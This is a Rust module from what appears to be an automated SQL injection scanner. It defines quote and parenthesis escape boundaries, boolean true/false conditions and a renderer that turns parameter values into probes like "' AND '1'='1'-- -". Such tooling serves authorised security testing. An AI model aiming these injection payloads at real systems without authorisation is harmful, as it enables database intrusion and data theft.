//! Context-escape boundaries shared by every technique
//!
//! A boundary closes the SQL context around the original value before the
//! injected clause and neutralises whatever follows it. Techniques walk the
//! table in priority order and adopt the first pair that discriminates; the
//! choice is never carried over to another technique run.

use super::enums::ParamType;
use serde::Serialize;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Boundary {
    pub prefix: &'static str,
    pub suffix: &'static str,
}

/// Fixed priority list of (prefix, suffix) pairs
pub const BOUNDARIES: &[Boundary] = &[
    Boundary { prefix: "", suffix: "-- -" },
    Boundary { prefix: "'", suffix: "-- -" },
    Boundary { prefix: "\"", suffix: "-- -" },
    Boundary { prefix: ")", suffix: "-- -" },
    Boundary { prefix: "')", suffix: "-- -" },
    Boundary { prefix: "\")", suffix: "-- -" },
    Boundary { prefix: "))", suffix: "-- -" },
    Boundary { prefix: "'))", suffix: "-- -" },
];

const NUMERIC_TRUE: &str = "1=1";
const NUMERIC_FALSE: &str = "1=2";
const STRING_TRUE: &str = "'1'='1'";
const STRING_FALSE: &str = "'1'='2'";

impl Boundary {
    pub fn is_quoted(&self) -> bool {
        self.prefix.contains('\'') || self.prefix.contains('"')
    }

    /// TRUE and FALSE condition literals for this context
    pub fn conditions(&self) -> (&'static str, &'static str) {
        if self.is_quoted() {
            (STRING_TRUE, STRING_FALSE)
        } else {
            (NUMERIC_TRUE, NUMERIC_FALSE)
        }
    }

    pub fn payload(&self, original: &str, clause: impl Into<String>) -> Payload {
        Payload {
            original: original.to_string(),
            prefix: self.prefix.to_string(),
            clause: clause.into(),
            suffix: self.suffix.to_string(),
        }
    }

    /// `original + prefix + " AND " + condition + suffix`
    pub fn and(&self, original: &str, condition: &str) -> Payload {
        self.payload(original, format!("AND {}", condition))
    }
}

/// Boundary search order for a parameter.
///
/// String-typed parameters try quoted contexts first; the relative order
/// inside each group is the table order.
pub fn candidates(param_type: ParamType) -> Vec<&'static Boundary> {
    let (quoted, bare): (Vec<&Boundary>, Vec<&Boundary>) =
        BOUNDARIES.iter().partition(|b| b.is_quoted());

    if param_type.is_numeric() {
        bare.into_iter().chain(quoted).collect()
    } else {
        quoted.into_iter().chain(bare).collect()
    }
}

/// A fully structured probe value.
///
/// Always derived from the parameter's original value; never edited in place.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Payload {
    pub original: String,
    pub prefix: String,
    pub clause: String,
    pub suffix: String,
}

impl Payload {
    pub fn render(&self) -> String {
        format!("{}{} {}{}", self.original, self.prefix, self.clause, self.suffix)
    }
}

impl std::fmt::Display for Payload {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}", self.render())
    }
}
